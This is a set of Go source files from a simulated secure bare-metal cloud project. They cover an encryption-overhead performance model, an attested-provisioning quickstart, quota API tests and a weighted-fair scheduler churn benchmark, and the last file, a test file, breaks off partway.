	// latency-bound message chain observes under ESP (crypto + xfrm
	// path on the paper's 2.6 GHz Xeons).
	ipsecPerPacket = 150 * time.Microsecond
	// ipsecBulkBandwidth is the sustained ESP payload rate for
	// pipelined bulk transfers (Figure 3b's HW/jumbo plateau).
	ipsecBulkBandwidth = 4.5e9 // bits/s
	jumboMTU           = 9000
	// bulkThreshold separates the latency-bound small-message regime
	// (serial per-packet cost) from the pipelined bulk regime.
	bulkThreshold = 2 * jumboMTU
)

// Remote-disk bandwidths in bytes/s from the Figure 3a/3c stacks.
const (
	diskPlainRead  = 0.95e9
	diskPlainWrite = 0.90e9
	diskLUKSRead   = 0.95e9 // LUKS reads keep up (Fig 3a)
	diskLUKSWrite  = 0.78e9 // modest write degradation (~0.8 GB/s)
	diskIPsecRead  = 0.33e9 // iSCSI over IPsec collapses (Fig 3c)
	diskIPsecWrite = 0.33e9
	diskBothWrite  = 0.29e9
)

// App characterizes one macro-benchmark's per-node behaviour.
type App struct {
	Name string
	// Kind is the Figure 7 grouping: "MPI", "Spark", or "VM".
	Kind string
	// Compute is pure CPU time, unaffected by encryption.
	Compute time.Duration
	// Msgs and MsgBytes describe communication: Msgs messages of
	// MsgBytes each. Small messages pay per-message latency chains;
	// large ones are bandwidth-bound.
	Msgs     int64
	MsgBytes int64
	// DiskRead/DiskWrite are remote-volume volumes.
	DiskRead  int64
	DiskWrite int64
}

// The Figure-7 application suite. Communication profiles follow each
// benchmark's published character: EP nearly compute-pure, CG dominated
// by latency-bound small-message reductions, FT bulk all-to-all
// transposes, MG moderate neighbour exchange, TeraSort disk+shuffle
// heavy, Filebench-VM storage-bound.
var (
	AppEP = App{Name: "EP", Kind: "MPI", Compute: 90 * time.Second,
		Msgs: 120_000, MsgBytes: 8 << 10}
	AppCG = App{Name: "CG", Kind: "MPI", Compute: 30 * time.Second,
		Msgs: 1_200_000, MsgBytes: 4 << 10}
	AppFT = App{Name: "FT", Kind: "MPI", Compute: 40 * time.Second,
		Msgs: 2_000, MsgBytes: 32 << 20}
	AppMG = App{Name: "MG", Kind: "MPI", Compute: 55 * time.Second,
		Msgs: 100_000, MsgBytes: 8 << 10}
	AppTeraSort = App{Name: "TeraSort", Kind: "Spark", Compute: 120 * time.Second,
		Msgs: 1_000, MsgBytes: 8 << 20, DiskRead: 8 << 30, DiskWrite: 8 << 30}
	AppFilebenchVM = App{Name: "Filebench-VM", Kind: "VM", Compute: 60 * time.Second,
		DiskRead: 16 << 30, DiskWrite: 6 << 30}
)

// Figure7Apps is the full suite in presentation order.
var Figure7Apps = []App{AppEP, AppCG, AppFT, AppMG, AppTeraSort, AppFilebenchVM}

// msgTime returns the cost of one message under a configuration.
func msgTime(msgBytes int64, ipsec bool) time.Duration {
	if msgBytes <= 0 {
		return 0
	}
	if msgBytes <= bulkThreshold {
		// Latency-bound regime: dependent sends serialize the one-way
		// latency, per-packet processing and wire time.
		pkts := (msgBytes + jumboMTU - 1) / jumboMTU
		t := oneWayLatency + time.Duration(float64(msgBytes*8)/wireBandwidth*float64(time.Second))
		if ipsec {
			t += time.Duration(pkts) * ipsecPerPacket
		}
		return t
	}
	// Bulk regime: pipelined; the slower of wire and cipher dominates.
	bw := wireBandwidth
	if ipsec {
		bw = ipsecBulkBandwidth
	}
	return oneWayLatency + time.Duration(float64(msgBytes*8)/bw*float64(time.Second))
}

// diskTime charges remote-volume traffic.
func diskTime(read, write int64, sec SecConfig) time.Duration {
	var rbw, wbw float64
	switch {
	case sec.IPsec && sec.LUKS:
		rbw, wbw = diskIPsecRead, diskBothWrite
	case sec.IPsec:
		rbw, wbw = diskIPsecRead, diskIPsecWrite
	case sec.LUKS:
		rbw, wbw = diskLUKSRead, diskLUKSWrite
	default:
		rbw, wbw = diskPlainRead, diskPlainWrite
	}
	r := time.Duration(float64(read) / rbw * float64(time.Second))
	w := time.Duration(float64(write) / wbw * float64(time.Second))
	return r + w
}

// Runtime predicts the application's wall-clock time under a security
// configuration.
func (a App) Runtime(sec SecConfig) time.Duration {
	comm := time.Duration(a.Msgs) * msgTime(a.MsgBytes, sec.IPsec)
	return a.Compute + comm + diskTime(a.DiskRead, a.DiskWrite, sec)
}

// Degradation returns the fractional slowdown of sec relative to the
// unencrypted baseline (0.30 = 30% slower).
func (a App) Degradation(sec SecConfig) float64 {
	base := a.Runtime(SecConfig{})
	return float64(a.Runtime(sec)-base) / float64(base)
}

// Figure7Row formats one app's four bars as percentages.
func Figure7Row(a App) string {
	s := fmt.Sprintf("%-14s", a.Name)
	for _, sec := range AllSecConfigs {
		s += fmt.Sprintf("  %-10s %5.1f%%", sec, a.Degradation(sec)*100)
	}
	return s
}
