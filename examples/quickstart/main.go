// Quickstart: stand up a Bolted cloud, build an OS image, and bring an
// attested bare-metal server into an enclave — the paper's Figure-1
// lifecycle in ~30 lines of API.
package main

import (
	"context"
	"fmt"
	"log"

	"bolted"
)

func main() {
	// A cloud like the paper's testbed: 16 blades with LinuxBoot in
	// flash, a 3-host object-storage pool.
	cloud, err := bolted.NewCloud(bolted.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}

	// The tenant's OS image lives in the provisioning service; nodes
	// boot from it disklessly over the network.
	if _, err := cloud.BMI.CreateOSImage("fedora28", bolted.OSImageSpec{
		KernelID: "fedora28-4.17.9",
		Kernel:   []byte("vmlinuz-4.17.9-200.fc28"),
		Initrd:   []byte("initramfs-4.17.9-200.fc28"),
		Cmdline:  "root=iscsi quiet",
	}); err != nil {
		log.Fatal(err)
	}

	// Bob's profile: attested boot (protection from previous tenants'
	// firmware implants) via the provider's attestation service.
	enclave, err := bolted.NewEnclave(cloud, "quickstart", bolted.ProfileBob)
	if err != nil {
		log.Fatal(err)
	}

	// One call runs the whole lifecycle: allocate → airlock → measured
	// boot → attest against the firmware whitelist → join the enclave →
	// mount the remote volume → kexec the tenant kernel.
	node, err := enclave.AcquireNode(context.Background(), "fedora28")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("node %s joined the enclave\n", node.Name)
	fmt.Printf("  running layer:   %s\n", node.Machine.Layer())
	fmt.Printf("  tenant kernel:   %s\n", node.Machine.KernelID())
	status, _ := enclave.Verifier().Status(node.Name)
	fmt.Printf("  attestation:     %s\n", status)
	fmt.Printf("  remote volume:   %d sectors\n", node.Disk.NumSectors())

	// Release: diskless means nothing of ours survives on the node.
	if err := enclave.ReleaseNode(node.Name, ""); err != nil {
		log.Fatal(err)
	}
	free, _ := cloud.HIL.FreeNodes()
	fmt.Printf("node released; free pool: %v\n", free[:3])
}
