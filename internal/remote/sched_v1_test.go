package remote

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strconv"
	"testing"
	"time"

	"bolted/internal/core"
)

// startSchedServer is startV1Server plus the raw server URL, for tests
// that need to inspect the HTTP surface itself.
func startSchedServer(t *testing.T, nodes int) (*core.Manager, *V1Client, string) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
		t.Fatal(err)
	}
	mgr := core.NewManager(cloud)
	handler, err := NewHandlerWithManager(cloud, mgr)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	return mgr, NewV1Client(srv.URL), srv.URL
}

func noRetries(cli *V1Client) {
	zero := 0
	cli.MaxQuotaRetries = &zero
}

// TestV1QuotaCRUD drives the /v1/quotas surface end to end.
func TestV1QuotaCRUD(t *testing.T) {
	_, cli, _ := startSchedServer(t, 2)
	ctx := context.Background()

	if _, err := cli.GetQuota(ctx, "t"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unset quota = %v, want core.ErrNotFound", err)
	}
	info, err := cli.SetQuota(ctx, "t", TenantQuotaInfo{Weight: 4, MaxNodes: 8, MaxInFlight: 2})
	if err != nil {
		t.Fatal(err)
	}
	if info.Tenant != "t" || info.Quota.Weight != 4 || info.Quota.MaxInFlight != 2 {
		t.Fatalf("SetQuota = %+v", info)
	}
	if _, err := cli.SetQuota(ctx, "t", TenantQuotaInfo{Weight: -1}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("invalid quota = %v, want core.ErrInvalid", err)
	}
	cli.SetQuota(ctx, "a", TenantQuotaInfo{Weight: 1})
	list, err := cli.ListQuotas(ctx)
	if err != nil || len(list) != 2 || list[0].Tenant != "a" || list[1].Tenant != "t" {
		t.Fatalf("ListQuotas = %+v, %v", list, err)
	}
	if err := cli.DeleteQuota(ctx, "t"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.GetQuota(ctx, "t"); !errors.Is(err, core.ErrNotFound) {
		t.Fatal("deleted quota still resolvable over /v1")
	}
	st, err := cli.SchedStats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if st.Slots < 1 {
		t.Fatalf("SchedStats = %+v", st)
	}
}

// TestV1QuotaRejectionWire pins the 429 wire contract: status 429, a
// Retry-After header in whole seconds, the resource_exhausted code,
// and a client-side error that matches both ErrOverQuota and the
// typed QuotaError carrying the parsed hint.
func TestV1QuotaRejectionWire(t *testing.T) {
	_, cli, base := startSchedServer(t, 4)
	noRetries(cli)
	ctx := context.Background()

	if _, err := cli.CreateEnclave(ctx, "t", "bob"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.SetQuota(ctx, "t", TenantQuotaInfo{MaxInFlight: 1}); err != nil {
		t.Fatal(err)
	}

	resp, err := http.Post(base+"/v1/enclaves/t/nodes:acquire", "application/json",
		bytes.NewReader([]byte(`{"image":"fedora28","count":3}`)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", resp.StatusCode)
	}
	ra := resp.Header.Get("Retry-After")
	if secs, err := strconv.Atoi(ra); err != nil || secs < 1 {
		t.Fatalf("Retry-After = %q, want whole seconds >= 1", ra)
	}

	_, err = cli.Acquire(ctx, "t", "fedora28", 3)
	if !errors.Is(err, core.ErrOverQuota) {
		t.Fatalf("client error = %v, want core.ErrOverQuota", err)
	}
	var qe *core.QuotaError
	if !errors.As(err, &qe) || qe.RetryAfter < time.Second {
		t.Fatalf("client lost the QuotaError hint: %v", err)
	}
}

// TestV1ClientRetriesQuotaRejection: the client transparently re-sends
// a 429-rejected acquire and succeeds once capacity frees — callers
// never see the rejection.
func TestV1ClientRetriesQuotaRejection(t *testing.T) {
	mgr, cli, _ := startSchedServer(t, 4)
	ctx := context.Background()

	if _, err := cli.CreateEnclave(ctx, "t", "bob"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.SetQuota(ctx, "t", TenantQuotaInfo{MaxInFlight: 1}); err != nil {
		t.Fatal(err)
	}
	// Raise the cap while the client is backing off from its first
	// rejection: a subsequent retry must then get through.
	go func() {
		time.Sleep(200 * time.Millisecond)
		mgr.SetQuota("t", core.TenantQuota{MaxInFlight: 4})
	}()
	op, err := cli.Acquire(ctx, "t", "fedora28", 2)
	if err != nil {
		t.Fatalf("acquire not retried through the quota raise: %v", err)
	}
	if _, err := cli.WaitOperation(ctx, op.ID); err != nil {
		t.Fatal(err)
	}
}

// TestV1ClientQuotaRetriesExhausted: with retries disabled the
// rejection surfaces immediately; with the default retries it still
// surfaces (as ErrOverQuota) once the attempts run out.
func TestV1ClientQuotaRetriesExhausted(t *testing.T) {
	_, cli, _ := startSchedServer(t, 4)
	ctx := context.Background()
	if _, err := cli.CreateEnclave(ctx, "t", "bob"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.SetQuota(ctx, "t", TenantQuotaInfo{MaxInFlight: 1}); err != nil {
		t.Fatal(err)
	}
	one := 1
	cli.MaxQuotaRetries = &one
	start := time.Now()
	_, err := cli.Acquire(ctx, "t", "fedora28", 2)
	if !errors.Is(err, core.ErrOverQuota) {
		t.Fatalf("exhausted retries = %v, want core.ErrOverQuota", err)
	}
	// One retry means at least one backoff period (>= RetryAfter/2
	// with jitter) actually elapsed.
	if e := time.Since(start); e < 250*time.Millisecond {
		t.Fatalf("retry returned after %v, backoff never happened", e)
	}
	// Cancellation mid-backoff returns promptly with the context error.
	cctx, cancel := context.WithTimeout(ctx, 100*time.Millisecond)
	defer cancel()
	if _, err := cli.Acquire(cctx, "t", "fedora28", 2); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("cancel mid-backoff = %v, want context.DeadlineExceeded", err)
	}
}

// TestTransportErrorTyped: a non-JSON error body (a proxy 502, an LB
// HTML page) decodes into TransportError so errors.Is works, instead
// of an anonymous string error.
func TestTransportErrorTyped(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusBadGateway)
		w.Write([]byte("<html><body>502 Bad Gateway</body></html>"))
	}))
	defer srv.Close()
	cli := NewV1Client(srv.URL)

	_, err := cli.ListEnclaves(context.Background())
	if !errors.Is(err, ErrTransport) {
		t.Fatalf("non-JSON error body = %v, want ErrTransport match", err)
	}
	var te *TransportError
	if !errors.As(err, &te) {
		t.Fatalf("errors.As(TransportError) failed: %v", err)
	}
	if te.StatusCode != http.StatusBadGateway || te.Body == "" {
		t.Fatalf("TransportError = %+v", te)
	}
}
