// The scheduler churn benchmark: cluster-scale validation of the
// weighted-fair airlock scheduler on the paper's timing model. It
// replays the same adversarial multi-tenant workload through three
// arbiter configurations — uncontended (slots for everyone), the
// seed's FIFO airlock queue, and the weighted-fair queue with strict
// priority bands — and reports p50/p99 enclave acquire latency plus
// Jain's fairness index over per-tenant responsiveness.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"sort"
	"time"

	"bolted/internal/core"
	"bolted/internal/obs"
	"bolted/internal/sim"
)

// simMetrics mirrors boltedd's scheduler instruments over the churn
// model — same metric names, same labels, sim-time observations — so
// the 10k-node run is scrapeable with the dashboards built for a live
// control plane. The zero value (no registry) no-ops.
type simMetrics struct {
	wait    map[core.SchedClass]*obs.Histogram
	grants  *obs.CounterVec
	attest  *obs.Histogram
	requote *obs.Histogram
}

func newSimMetrics(reg *obs.Registry) simMetrics {
	if reg == nil {
		return simMetrics{}
	}
	waitVec := reg.HistogramVec("bolted_sched_wait_seconds",
		"Airlock queue wait from enqueue to grant.", nil, "class")
	phaseVec := reg.HistogramVec("bolted_phase_seconds",
		"Per-node time in each Figure-1 lifecycle phase.", nil, "phase")
	return simMetrics{
		wait: map[core.SchedClass]*obs.Histogram{
			core.ClassForeground: waitVec.With(core.ClassForeground.String()),
			core.ClassBackground: waitVec.With(core.ClassBackground.String()),
		},
		grants: reg.CounterVec("bolted_sched_grants_total",
			"Airlock slots granted, by tenant.", "tenant"),
		attest:  phaseVec.With(core.PhaseAttest),
		requote: phaseVec.With(core.PhaseWarmRequote),
	}
}

// Churn workload shape: one 64-node hog in a closed acquire/hold/
// release loop against seven 2-node tenants with Poisson arrivals,
// plus a 256-standby warm pool re-quoting in the background and
// periodic revocation storms forcing replacement acquires.
const (
	schedNodes       = 10_000 // modeled free-node pool
	schedSlots       = 16     // contended airlock slots
	schedUncontended = 4_096  // "infinite" slots for the baseline run
	schedTenantsN    = 8
	schedHorizon     = 2 * time.Hour

	hogNodes = 64
	hogHold  = 60 * time.Second

	smallNodes   = 2
	smallArrival = 48 * time.Second  // mean Poisson interarrival per tenant
	smallHold    = 300 * time.Second // mean enclave lifetime

	bgStandbys   = 256
	requoteEvery = 120 * time.Second

	stormEvery  = 600 * time.Second
	stormPick   = 4 // every storm revokes one node from up to this many enclaves
	healDelay   = 60 * time.Second
	minEnclaves = 1_000 // acceptance floor for the full run
)

// Gates the CI build enforces on the WFQ run (-check).
const (
	gateJain     = 0.8
	gateP99Ratio = 3.0
)

// schedArbiter is the slot-granting discipline under test. Exactly one
// sim process runs at a time, so no locking.
type schedArbiter interface {
	acquire(p *sim.Proc, tenant string, class core.SchedClass)
	release()
	maxQueue() int
}

// fifoArbiter replays the seed's behavior: one flat FIFO queue,
// oblivious to tenant and class.
type fifoArbiter struct {
	s     *sim.Sim
	slots int
	inUse int
	q     []*sim.Gate
	maxQ  int
}

func (a *fifoArbiter) acquire(p *sim.Proc, _ string, _ core.SchedClass) {
	if a.inUse < a.slots && len(a.q) == 0 {
		a.inUse++
		return
	}
	g := a.s.NewGate()
	a.q = append(a.q, g)
	if len(a.q) > a.maxQ {
		a.maxQ = len(a.q)
	}
	p.Wait(g)
}

func (a *fifoArbiter) release() {
	if len(a.q) > 0 {
		g := a.q[0]
		copy(a.q, a.q[1:])
		a.q = a.q[:len(a.q)-1]
		g.Open() // slot hands off directly; inUse unchanged
		return
	}
	a.inUse--
}

func (a *fifoArbiter) maxQueue() int { return a.maxQ }

// wfqArbiter grants slots by the production scheduler's policy: the
// same core.FairQueue (virtual-time weighted-fair within strict
// priority bands) that internal/core uses, driving sim gates instead
// of goroutine channels.
type wfqArbiter struct {
	s     *sim.Sim
	slots int
	inUse int
	fq    *core.FairQueue
	gates map[uint64]*sim.Gate
	maxQ  int
}

func newWFQArbiter(s *sim.Sim, slots int) *wfqArbiter {
	return &wfqArbiter{s: s, slots: slots, fq: core.NewFairQueue(), gates: make(map[uint64]*sim.Gate)}
}

func (a *wfqArbiter) acquire(p *sim.Proc, tenant string, class core.SchedClass) {
	if a.inUse < a.slots && a.fq.Len() == 0 {
		a.inUse++
		return
	}
	id := a.fq.Push(tenant, class)
	g := a.s.NewGate()
	a.gates[id] = g
	if a.fq.Len() > a.maxQ {
		a.maxQ = a.fq.Len()
	}
	p.Wait(g)
}

func (a *wfqArbiter) release() {
	if id, _, ok := a.fq.Pop(); ok {
		g := a.gates[id]
		delete(a.gates, id)
		g.Open()
		return
	}
	a.inUse--
}

func (a *wfqArbiter) maxQueue() int { return a.maxQ }

// schedTenant accumulates one tenant's view of the run.
type schedTenant struct {
	name  string
	nodes int // nodes per enclave acquire
	lat   []float64
}

// activeEncl is a live enclave eligible for revocation storms.
type activeEncl struct {
	tenant *schedTenant
	nodes  int
}

// churnRun is one pass of the workload through one arbiter.
type churnRun struct {
	s   *sim.Sim
	arb schedArbiter
	m   simMetrics

	slots   int
	free    int
	peak    int
	nodeAcq int

	tenants []*schedTenant
	nextID  int
	active  map[int]*activeEncl

	bgGrants int
	bgWaited time.Duration
	storms   int
	replaced int
}

func (r *churnRun) takeNodes(n int) {
	if r.free < n {
		panic(fmt.Sprintf("sched: free-node pool exhausted (%d left, want %d)", r.free, n))
	}
	r.free -= n
	r.nodeAcq += n
	if used := schedNodes - r.free; used > r.peak {
		r.peak = used
	}
}

func (r *churnRun) releaseNodes(n int) { r.free += n }

// nodeAttest is the per-node provisioning cost on the paper's model:
// the airlock-serialized attestation slice, then the rest of the
// attest phase off-slot.
func (r *churnRun) nodeAttest(p *sim.Proc, t *schedTenant) {
	w0 := p.Now()
	r.arb.acquire(p, t.name, core.ClassForeground)
	r.m.wait[core.ClassForeground].Observe((p.Now() - w0).Seconds())
	r.m.grants.With(t.name).Inc()
	t0 := p.Now()
	p.Sleep(core.AirlockSerialDuration)
	r.arb.release()
	p.Sleep(core.AttestDuration)
	r.m.attest.Observe((p.Now() - t0).Seconds())
}

// enclaveAcquire provisions an n-node enclave: every node contends for
// an airlock slot in parallel, and the enclave is up when the last
// node finishes attestation.
func (r *churnRun) enclaveAcquire(p *sim.Proc, t *schedTenant, n int) {
	start := p.Now()
	r.takeNodes(n)
	wg := r.s.NewWaitGroup(n)
	for i := 0; i < n; i++ {
		r.s.Go(t.name+"-node", func(np *sim.Proc) {
			r.nodeAttest(np, t)
			wg.Done()
		})
	}
	p.WaitFor(wg)
	t.lat = append(t.lat, (p.Now() - start).Seconds())
}

func (r *churnRun) register(t *schedTenant, n int) int {
	id := r.nextID
	r.nextID++
	r.active[id] = &activeEncl{tenant: t, nodes: n}
	return id
}

func (r *churnRun) unregister(id int) int {
	e := r.active[id]
	delete(r.active, id)
	return e.nodes
}

// storm revokes one node from up to stormPick live enclaves: the
// revoked node heals back into the free pool after a delay while a
// replacement acquire re-enters the airlock queue — the guard plane's
// revocation-storm load on the scheduler.
func (r *churnRun) storm() {
	ids := make([]int, 0, len(r.active))
	for id := range r.active {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	r.s.Rand().Shuffle(len(ids), func(i, j int) { ids[i], ids[j] = ids[j], ids[i] })
	if len(ids) > stormPick {
		ids = ids[:stormPick]
	}
	r.storms++
	for _, id := range ids {
		e := r.active[id]
		if e.nodes == 0 {
			continue
		}
		e.nodes--
		eid := id
		r.s.After(healDelay, func() { r.releaseNodes(1) })
		r.s.Go(e.tenant.name+"-heal", func(p *sim.Proc) {
			r.takeNodes(1)
			r.nodeAttest(p, e.tenant)
			r.replaced++
			if cur, ok := r.active[eid]; ok {
				cur.nodes++
			} else {
				r.releaseNodes(1) // enclave ended mid-replacement
			}
		})
	}
}

// runChurn drives the full workload through one arbiter and returns
// the populated run. A non-nil reg records the run's scheduler metrics
// under boltedd's metric names (sim-time observations).
func runChurn(mkArb func(*sim.Sim, int) schedArbiter, slots int, reg *obs.Registry) *churnRun {
	s := sim.New(7) // fixed seed: identical arrivals across arbiters
	r := &churnRun{
		s:      s,
		arb:    mkArb(s, slots),
		m:      newSimMetrics(reg),
		slots:  slots,
		free:   schedNodes,
		active: make(map[int]*activeEncl),
	}
	expDur := func(mean time.Duration) time.Duration {
		return time.Duration(s.Rand().ExpFloat64() * float64(mean))
	}

	hog := &schedTenant{name: "hog", nodes: hogNodes}
	r.tenants = append(r.tenants, hog)
	s.Go("hog", func(p *sim.Proc) {
		for p.Now() < schedHorizon {
			r.enclaveAcquire(p, hog, hogNodes)
			id := r.register(hog, hogNodes)
			p.Sleep(hogHold)
			r.releaseNodes(r.unregister(id))
		}
	})

	for i := 1; i < schedTenantsN; i++ {
		t := &schedTenant{name: fmt.Sprintf("t%d", i), nodes: smallNodes}
		r.tenants = append(r.tenants, t)
		s.Go(t.name, func(p *sim.Proc) {
			for {
				p.Sleep(expDur(smallArrival))
				if p.Now() >= schedHorizon {
					return
				}
				s.Go(t.name+"-encl", func(ep *sim.Proc) {
					r.enclaveAcquire(ep, t, smallNodes)
					id := r.register(t, smallNodes)
					ep.Sleep(expDur(smallHold))
					r.releaseNodes(r.unregister(id))
				})
			}
		})
	}

	// The warm pool's periodic re-quotes ride the background band:
	// under FIFO they cut ahead of tenants; under WFQ they only run
	// when no foreground acquire is queued.
	for i := 0; i < bgStandbys; i++ {
		s.Go(fmt.Sprintf("standby-%d", i), func(p *sim.Proc) {
			p.Sleep(expDur(requoteEvery)) // de-synchronize the fleet
			for p.Now() < schedHorizon {
				w0 := p.Now()
				r.arb.acquire(p, "pool", core.ClassBackground)
				r.m.wait[core.ClassBackground].Observe((p.Now() - w0).Seconds())
				r.m.grants.With("pool").Inc()
				r.bgWaited += p.Now() - w0
				p.Sleep(core.WarmRequoteDuration)
				r.arb.release()
				r.m.requote.Observe(core.WarmRequoteDuration.Seconds())
				r.bgGrants++
				p.Sleep(requoteEvery)
			}
		})
	}

	var schedStorm func()
	schedStorm = func() {
		if s.Now() >= schedHorizon {
			return
		}
		r.storm()
		s.After(stormEvery, schedStorm)
	}
	s.After(stormEvery, schedStorm)

	s.Run()
	return r
}

func quantile(xs []float64, q float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sorted := append([]float64(nil), xs...)
	sort.Float64s(sorted)
	i := int(q * float64(len(sorted)-1))
	return sorted[i]
}

// idealLatency is the no-contention acquire time for an n-node enclave
// on this many slots: pipelined airlock waves plus the attest tail.
func idealLatency(n, slots int) float64 {
	waves := (n + slots - 1) / slots
	return (time.Duration(waves)*core.AirlockSerialDuration + core.AttestDuration).Seconds()
}

// jainIndex is (Σx)² / (n·Σx²): 1.0 when every tenant is equally well
// served, 1/n when one tenant gets everything.
func jainIndex(xs []float64) float64 {
	var sum, sq float64
	for _, x := range xs {
		sum += x
		sq += x * x
	}
	if sq == 0 {
		return 0
	}
	return sum * sum / (float64(len(xs)) * sq)
}

// schedRunReport is one arbiter's measured outcome (the wire form in
// BENCH_sched.json).
type schedRunReport struct {
	Arbiter   string  `json:"arbiter"`
	Enclaves  int     `json:"enclaves"`
	NodeAcqs  int     `json:"node_acquires"`
	PeakNodes int     `json:"peak_nodes"`
	P50       float64 `json:"p50_s"`
	P99       float64 `json:"p99_s"`
	Jain      float64 `json:"jain"`
	MaxQueue  int     `json:"max_queue"`
	BgGrants  int     `json:"bg_requotes"`
	Storms    int     `json:"storms"`
	Replaced  int     `json:"replaced_nodes"`
}

func (r *churnRun) report(name string) schedRunReport {
	var all []float64
	var resp []float64
	for _, t := range r.tenants {
		all = append(all, t.lat...)
		if len(t.lat) == 0 {
			continue
		}
		var mean float64
		for _, l := range t.lat {
			mean += l
		}
		mean /= float64(len(t.lat))
		// Responsiveness = ideal/actual (inverse slowdown), so a
		// tenant's own batch pipelining doesn't read as unfairness.
		resp = append(resp, idealLatency(t.nodes, r.slots)/mean)
	}
	return schedRunReport{
		Arbiter:   name,
		Enclaves:  len(all),
		NodeAcqs:  r.nodeAcq,
		PeakNodes: r.peak,
		P50:       quantile(all, 0.50),
		P99:       quantile(all, 0.99),
		Jain:      jainIndex(resp),
		MaxQueue:  r.arb.maxQueue(),
		BgGrants:  r.bgGrants,
		Storms:    r.storms,
		Replaced:  r.replaced,
	}
}

// schedBench is the whole benchmark document written to
// BENCH_sched.json and gated by CI.
type schedBench struct {
	Bench       string           `json:"bench"`
	Nodes       int              `json:"nodes"`
	Slots       int              `json:"slots"`
	Tenants     int              `json:"tenants"`
	HorizonS    float64          `json:"horizon_s"`
	Runs        []schedRunReport `json:"runs"`
	P99Ratio    float64          `json:"p99_ratio"`
	GateJain    float64          `json:"gate_jain"`
	GateP99Rat  float64          `json:"gate_p99_ratio"`
	MinEnclaves int              `json:"min_enclaves"`
	Pass        bool             `json:"pass"`
}

func figSched(bool) {
	header("Scheduler churn: WFQ airlocks vs FIFO under adversarial multi-tenant load")
	fmt.Printf("%d-node cloud, %d airlock slots, %d tenants (1x%d-node hog + 7x%d-node), %s horizon\n",
		schedNodes, schedSlots, schedTenantsN, hogNodes, smallNodes, schedHorizon)
	fmt.Printf("background: %d warm standbys re-quoting every ~%s; revocation storm every %s\n",
		bgStandbys, requoteEvery, stormEvery)

	// Only the production-policy run (WFQ, contended) records metrics:
	// that is the configuration a live boltedd schedules with.
	var reg *obs.Registry
	if schedMetricsOut != "" {
		reg = obs.NewRegistry()
	}
	runs := []schedRunReport{
		runChurn(func(s *sim.Sim, n int) schedArbiter { return newWFQArbiter(s, n) }, schedUncontended, nil).report("uncontended"),
		runChurn(func(s *sim.Sim, n int) schedArbiter { return &fifoArbiter{s: s, slots: n} }, schedSlots, nil).report("fifo"),
		runChurn(func(s *sim.Sim, n int) schedArbiter { return newWFQArbiter(s, n) }, schedSlots, reg).report("wfq"),
	}
	unc, fifo, wfq := runs[0], runs[1], runs[2]

	fmt.Printf("%-12s %9s %9s %9s %7s %7s %9s %7s\n",
		"arbiter", "enclaves", "p50(s)", "p99(s)", "jain", "maxq", "requotes", "nodes")
	for _, r := range runs {
		fmt.Printf("%-12s %9d %9.1f %9.1f %7.3f %7d %9d %7d\n",
			r.Arbiter, r.Enclaves, r.P50, r.P99, r.Jain, r.MaxQueue, r.BgGrants, r.NodeAcqs)
	}

	ratio := math.Inf(1)
	if unc.P99 > 0 {
		ratio = wfq.P99 / unc.P99
	}
	pass := wfq.Jain >= gateJain && ratio <= gateP99Ratio && wfq.Enclaves >= minEnclaves
	fmt.Printf("contended/uncontended p99 ratio: %.2fx (gate <= %.1fx); wfq jain %.3f (gate >= %.1f)\n",
		ratio, gateP99Ratio, wfq.Jain, gateJain)
	fmt.Printf("fifo contrast: p99 %.1fs jain %.3f -> wfq p99 %.1fs jain %.3f\n",
		fifo.P99, fifo.Jain, wfq.P99, wfq.Jain)
	fmt.Printf("gates: %s\n", map[bool]string{true: "PASS", false: "FAIL"}[pass])

	doc := schedBench{
		Bench:       "sched",
		Nodes:       schedNodes,
		Slots:       schedSlots,
		Tenants:     schedTenantsN,
		HorizonS:    schedHorizon.Seconds(),
		Runs:        runs,
		P99Ratio:    ratio,
		GateJain:    gateJain,
		GateP99Rat:  gateP99Ratio,
		MinEnclaves: minEnclaves,
		Pass:        pass,
	}
	b, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		panic(err)
	}
	b = append(b, '\n')
	out := benchOut
	if out == "" {
		out = "BENCH_sched.json"
	}
	if err := os.WriteFile(out, b, 0o644); err != nil {
		fmt.Fprintf(os.Stderr, "boltedsim: write %s: %v\n", out, err)
		os.Exit(1)
	}
	fmt.Printf("wrote %s\n", out)
	if reg != nil {
		var buf bytes.Buffer
		if err := reg.WriteProm(&buf); err != nil {
			panic(err)
		}
		if err := os.WriteFile(schedMetricsOut, buf.Bytes(), 0o644); err != nil {
			fmt.Fprintf(os.Stderr, "boltedsim: write %s: %v\n", schedMetricsOut, err)
			os.Exit(1)
		}
		fmt.Printf("wrote %s (Prometheus exposition of the wfq run)\n", schedMetricsOut)
	}
	if benchCheck && !pass {
		fmt.Fprintln(os.Stderr, "boltedsim: sched gates failed")
		os.Exit(1)
	}
}
