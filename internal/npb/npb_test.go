package npb

import (
	"math"
	"math/cmplx"
	"math/rand"
	"testing"
	"testing/quick"
)

func world(t testing.TB, n int, secure bool) *World {
	t.Helper()
	w, err := NewWorld(n, secure)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// --- communication layer ---

func TestAllReduceSum(t *testing.T) {
	w := world(t, 4, false)
	err := w.Run(func(c *Comm) error {
